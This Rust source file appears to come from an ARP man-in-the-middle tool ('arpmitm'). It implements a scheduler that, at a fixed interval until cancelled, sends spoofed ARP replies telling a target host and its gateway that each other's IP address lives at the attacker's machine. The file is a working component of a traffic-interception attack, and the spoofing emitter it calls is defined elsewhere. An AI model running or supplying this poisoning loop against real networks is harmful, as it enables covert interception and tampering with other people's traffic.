//! Poison Scheduler
//!
//! Repeats one poison round (victim told "gateway is here", gateway told
//! "victim is here") every interval until the session is cancelled. A round
//! in progress always completes; cancellation is observed between rounds and
//! during the sleep.

use crate::spoof::{SpoofEmitter, SpoofOutcome};
use arpmitm_core::{PoisonState, Result, Session};
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;
use tracing::{debug, info};

/// Outcome of one round, one entry per direction
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PoisonRound {
    /// Reply sent to the target claiming the gateway's IP
    pub to_target: SpoofOutcome,
    /// Reply sent to the gateway claiming the target's IP
    pub to_gateway: SpoofOutcome,
    /// Session counter after this round
    pub packets_sent: u64,
}

pub struct PoisonScheduler {
    emitter: SpoofEmitter,
    session: Arc<Session>,
    target: Ipv4Addr,
    gateway: Ipv4Addr,
    interval: Duration,
}

impl PoisonScheduler {
    pub fn new(
        emitter: SpoofEmitter,
        session: Arc<Session>,
        target: Ipv4Addr,
        gateway: Ipv4Addr,
        interval: Duration,
    ) -> Self {
        Self {
            emitter,
            session,
            target,
            gateway,
            interval,
        }
    }

    /// Run a single round.
    ///
    /// The session counter advances by two whatever the per-direction
    /// outcome was.
    pub async fn poison_once(&self) -> PoisonRound {
        let to_target = self.emitter.spoof(self.target, self.gateway).await;
        let to_gateway = self.emitter.spoof(self.gateway, self.target).await;

        let packets_sent = self.session.counters().record_poison_round();
        info!(packets_sent, "Sent packets: {}", packets_sent);

        PoisonRound {
            to_target,
            to_gateway,
            packets_sent,
        }
    }

    /// Loop until the session is cancelled
    pub async fn run(&self) -> Result<()> {
        if !self.session.is_running() {
            self.session.set_state(PoisonState::Stopping);
            return Ok(());
        }

        self.session.set_state(PoisonState::Active);
        info!(
            target_ip = %self.target,
            gateway_ip = %self.gateway,
            interval = ?self.interval,
            "Poisoning started"
        );

        while self.session.is_running() {
            self.poison_once().await;

            tokio::select! {
                _ = tokio::time::sleep(self.interval) => {}
                _ = self.session.cancelled() => break,
            }
        }

        self.session.set_state(PoisonState::Stopping);
        debug!(packets_sent = self.session.packets_sent(), "Poison loop stopped");
        Ok(())
    }
}
